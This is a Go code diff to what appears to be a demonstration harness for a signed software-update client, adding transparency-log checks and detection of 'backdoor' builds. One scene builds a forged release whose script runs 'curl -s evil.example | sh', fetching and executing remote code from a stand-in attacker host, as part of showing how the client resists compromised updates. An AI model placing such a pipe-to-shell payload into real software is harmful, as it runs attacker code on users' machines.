@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/latchsec/latch/client"
+	"github.com/theupdateframework/go-tuf/v2/metadata"
 )
 
 // demoStart is the demo clock's reading when each scene begins; the
@@ -81,8 +82,14 @@ func (l *logBook) skipped() (mirrors, reasons []string, err error) {
 
 // releaseInfo is the signed custom metadata of a release of myapp.
 type releaseInfo struct {
-	Version  string   `json:"version"`
-	Channels []string `json:"channels"`
+	Version  string    `json:"version"`
+	Channels []string  `json:"channels"`
+	TLog     *tlogInfo `json:"tlog,omitempty"` // with a transparency log
+}
+
+// tlogInfo names a release's entry in the transparency log.
+type tlogInfo struct {
+	Index int64 `json:"index"`
 }
 
 // world is one fresh setup: a repository that has published myapp 1.0.0 and
@@ -99,6 +106,13 @@ type world struct {
 }
 
 func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err error) {
+	return newWorldLogged(ctx, dir, nil, mirrors...)
+}
+
+// newWorldLogged is newWorld with the repository logging every release in
+// tl, served by each mirror under /log/, and the client requiring that log
+// for myapp's releases (nil: no log).
+func newWorldLogged(ctx context.Context, dir string, tl *releaseLog, mirrors ...string) (_ *world, err error) {
 	w := &world{clock: &clock{t: demoStart}, log: &logBook{}, app: filepath.Join(dir, "app", "myapp")}
 	defer func() {
 		if err != nil {
@@ -108,6 +122,7 @@ func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err
 	if w.repo, err = newRepo(demoStart); err != nil {
 		return nil, err
 	}
+	w.repo.log = tl
 	if err := w.repo.release("1.0.0"); err != nil {
 		return nil, err
 	}
@@ -118,6 +133,13 @@ func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err
 		w.sites = append(w.sites, s)
 		cfg.MetadataURLs = append(cfg.MetadataURLs, s.metadataURL())
 		cfg.TargetURLs = append(cfg.TargetURLs, s.targetsURL())
+		if tl != nil {
+			s.serveLog(tl.dir)
+			if cfg.TransparencyLog == nil {
+				cfg.TransparencyLog = tl.policy()
+			}
+			cfg.TransparencyLog.URLs = append(cfg.TransparencyLog.URLs, s.srv.URL+"/log/")
+		}
 	}
 	if err := os.MkdirAll(filepath.Dir(w.app), 0o755); err != nil {
 		return nil, err
@@ -206,9 +228,12 @@ func (a appState) equal(b appState) bool {
 
 // label names the installed application by its content.
 func (a appState) label() string {
-	for _, v := range []string{"1.0.0", "2.0.0"} {
+	for _, v := range []string{"1.0.0", "2.0.0", "2.0.1"} {
 		if bytes.Equal(a.content, binary(v)) {
 			return "myapp " + v
+		}
+		if bytes.Equal(a.content, backdoor(v)) {
+			return "backdoor " + v
 		}
 	}
 	return fmt.Sprintf("unknown %d bytes", len(a.content))
@@ -342,7 +367,7 @@ var scenes = []scene{
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
 			evil := []byte("#!/bin/sh\necho 'myapp 2.0.0'; curl -s evil.example | sh\n")
-			forged, err := w.repo.forgeTargets(targetPath("2.0.0"), "2.0.0", evil)
+			forged, err := w.repo.forgeTargets(targetPath("2.0.0"), "2.0.0", evil, nil, w.repo.keys[metadata.TARGETS][0])
 			if err != nil {
 				return err
 			}
